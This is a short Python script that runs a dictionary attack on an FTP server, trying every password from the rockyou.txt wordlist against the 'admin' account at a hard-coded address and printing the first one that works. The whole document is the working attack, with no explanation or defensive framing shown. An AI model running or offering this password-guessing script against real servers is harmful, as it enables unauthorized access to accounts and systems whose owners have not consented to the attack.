import ftplib
for pw in open("rockyou.txt", encoding="latin-1"):
    try:
        f = ftplib.FTP("203.0.113.20", timeout=4); f.login("admin", pw.strip()); print("found", pw); break
    except ftplib.all_errors:
        continue
